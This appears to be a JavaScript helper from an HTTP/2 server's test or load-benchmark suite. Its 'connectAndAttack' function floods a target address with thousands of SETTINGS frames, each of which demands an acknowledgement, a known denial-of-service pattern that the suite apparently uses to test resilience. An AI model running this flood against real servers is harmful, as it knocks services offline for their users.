import { frameHead, SETTINGS } from "../../bench/load/frames.mjs";
import { keepWriting } from "../support/http2.mjs";

const frames = Buffer.concat(Array.from({ length: 5_000 }, () => frameHead(0, SETTINGS, 0, 0)));

/** Settings, each of which is to be acknowledged. */
export function connectAndAttack(address) {
  return keepWriting(address, () => frames);
}
